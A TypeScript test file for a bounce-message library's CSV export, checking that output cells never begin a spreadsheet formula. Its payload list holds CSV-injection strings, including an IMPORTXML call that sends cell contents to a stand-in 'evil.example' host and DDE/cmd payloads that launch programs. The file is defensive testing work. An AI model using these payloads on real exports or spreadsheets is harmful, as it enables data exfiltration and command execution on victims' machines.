import { type BounceEvent, decode } from '@whybounce/core';
import { csvHeader, csvLine, csvRow } from '@whybounce/core/record-format';
import { expect, test } from 'vitest';

/** What begins a formula, alone and behind signs that spreadsheets skip or strip. */
const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const skipped = ['', ' ', '\t', '\r', '\n', '\r\n', '\u0000', '\u00a0', '\ufeff', '\u3000 ', '\u0000\t ', '\u2003'];
const formulas = [
  'HYPERLINK("https://evil.example","x")',
  "cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C notepad'!A1",
  'IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
];

const payloads: readonly string[] = [
  ...starts.flatMap((sign, i) => skipped.map((before, j) => `${before}${sign}${formulas[(i + j) % formulas.length]}`)),
  '=1+1"',
  '","=1+1',
  '"\r\n=1+1',
  "'=1+1",
  ';=1+1',
  '\t1+1',
  '\r1+1',
  '\n1+1',
  '=',
  '-',
  '-1',
  '+49 30 1234',
  '@SUM(A1)',
];

/** Cells of CSV as RFC 4180 has it, whatever is quoted. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const sign = text[i] as string;
    if (quoted) {
      if (sign !== '"') cell += sign;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (sign === '"') quoted = true;
    else if (sign === ',' || sign === '\n') {
      rows.at(-1)?.push(cell);
      cell = '';
      if (sign === '\n') rows.push([]);
    } else if (sign !== '\r') cell += sign;
  }
  expect([quoted, cell, rows.pop()]).toEqual([false, '', []]);
  return rows;
}

/** Whether a spreadsheet would take a cell for a formula: it skips white space, NUL and marks of byte order. */
function isFormula(cell: string): boolean {
  return /^[\t\r\n]/.test(cell) || [...starts].includes([...cell].find((sign) => !/[\s\p{C}\p{Z}]/u.test(sign)) ?? '');
}

const [base] = decode('550 5.1.1 <a@b.example>: no such user') as [BounceEvent];

/** An event with the payload in every column that holds text. */
const hostile = (text: string): BounceEvent => ({
  ...base,
  input: text,
  dialect: text,
  recipient: text,
  originalRecipient: text,
  sender: text,
  provider: text,
  remoteMta: { host: text, ip: text },
  enhancedStatus: text,
  diagnostic: text,
  blocklists: [text],
  timestamp: text,
  message: { messageId: text, subject: text, from: text, date: text, listId: text, campaign: text },
  diagnosis: base.diagnosis === null ? null : { ...base.diagnosis, rule: text },
  warnings: [{ code: text, message: text }],
});

const width = parseCsv(csvHeader())[0]?.length ?? 0;

test('there are 60 payloads and more', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(60);
  expect(payloads.filter(isFormula).length).toBeGreaterThanOrEqual(60);
});

test.each(payloads.map((text) => [JSON.stringify(text), text]))('%s begins no cell', (_, text) => {
  const rows = parseCsv(csvRow(hostile(text)));
  expect(rows.map((row) => row.length)).toEqual([width]);
  expect(rows.flat().filter(isFormula)).toEqual([]);
  // the payload is still there to be read, NUL and the apostrophe apart
  expect(rows.flat().filter((cell) => cell.includes(text.replaceAll('\u0000', ''))).length).toBeGreaterThanOrEqual(10);
});

test('a summary holds no formula either', () => {
  expect(
    parseCsv(payloads.map((text) => csvLine(['domain', text, 1])).join(''))
      .flat()
      .filter(isFormula),
  ).toEqual([]);
});

test('what is no formula is not touched', () => {
  const texts = ['a=b', '550 5.1.1 -x', "it's", '<a@b.example>', '', '"quoted"', 'a,b;c', '1+1', 'ä\u{1f600}'];
  expect(parseCsv(csvLine(texts))).toEqual([texts]);
});

test('numbers and nothing are cells too', () => {
  expect(parseCsv(csvLine([550, null, 0.97, 'x']))).toEqual([['550', '', '0.97', 'x']]);
});

test.each(payloads.map((text) => [JSON.stringify(text), text]))('%s comes back equal from JSON', (_, text) => {
  expect(JSON.parse(JSON.stringify(hostile(text)))).toEqual(hostile(text));
});

test('payloads that came in a reply, a log and a webhook', () => {
  const rows = payloads.flatMap((text) => {
    const word = text.replaceAll(/[\r\n]/g, ' ');
    return [
      ...decode(`${word} 550 5.1.1 no such user`),
      ...decode(`2026-05-27 14:30:01 1uJxAb-0002Cd-3E ** a@b.example R=d T=r H=mx.b.example [192.0.2.7]: ${word}\n`, {
        as: 'log',
      }),
      ...decode({
        RecordType: 'Bounce',
        Type: 'HardBounce',
        MessageID: text,
        Email: text,
        Details: text,
        Subject: text,
        Tag: text,
      }),
    ].map(csvRow);
  });
  const cells = parseCsv(rows.join(''));
  expect(new Set(cells.map((row) => row.length))).toEqual(new Set([width]));
  expect(cells.flat().filter(isFormula)).toEqual([]);
});
